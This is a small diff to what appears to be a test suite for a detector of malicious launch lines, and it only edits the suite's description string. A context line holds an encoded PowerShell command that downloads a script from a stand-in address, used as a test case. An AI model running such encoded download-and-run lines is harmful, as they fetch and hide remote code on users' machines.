@@ -14,7 +14,7 @@ const ENCODED = Buffer.from('iwr https://192.0.2.7/a.ps1', 'utf16le').toString('
 
 export const kind: Kind<LaunchLines> = {
   promise: 'audit',
-  kind: 'launch lines that download code, open a shell, send secrets, hide what they run or give the machine away: each is noticed, and honest lines like them are not',
+  kind: 'Launch lines that download code, open a shell, send secrets, hide what they run or give the machine away: each is noticed, and honest lines like them are not.',
   cases: [
     {
       name: 'code that is downloaded and run',
